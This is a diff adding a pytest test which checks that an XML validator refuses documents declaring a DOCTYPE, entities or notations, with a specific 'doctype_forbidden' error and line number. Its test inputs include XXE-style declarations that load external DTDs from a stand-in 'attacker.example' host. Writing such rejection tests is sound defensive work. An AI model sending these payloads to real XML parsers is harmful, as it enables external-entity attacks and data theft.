@@ -61,6 +61,33 @@ def test_any_doctype_or_entity_declaration_is_refused_not_expanded(body: bytes) 
     assert "DOCTYPE" in error.message
 
 
+@pytest.mark.parametrize(
+    "declaration",
+    [
+        b"<!DOCTYPE a>",
+        b'<!DOCTYPE a [<!ENTITY e "x">]>',
+        b'<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd">',
+        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
+        b'<!DOCTYPE a [<!NOTATION n SYSTEM "viewer">]>',
+    ],
+)
+def test_a_well_formed_document_that_declares_a_dtd_is_refused_as_doctype_forbidden(
+    declaration: bytes,
+) -> None:
+    # GIVEN a document that is accepted, and the same document with a DTD on its own line before the root
+    accepted = b'<?xml version="1.0"?>\n<a><b>x</b></a>'
+    assert validate_xml(accepted, **LIMITS) == accepted
+    with_dtd = accepted.replace(b"\n", b"\n" + declaration + b"\n")
+    # WHEN the one with the DTD is validated
+    error = rejection(with_dtd)
+    # THEN it is refused for the declaration, on the line that holds it, and not as malformed XML
+    assert (error.status_code, error.code) == (400, "doctype_forbidden")
+    assert error.message == (
+        "the document declares a DOCTYPE/DTD or entities; these are refused for security (entity "
+        "expansion, external entities): remove the declaration (line 2)"
+    )
+
+
 def test_malformed_xml_reports_expat_line_and_column() -> None:
     # GIVEN a document whose second line closes the wrong tag
     error = rejection(b"<a>\n  <b></c>\n</a>")
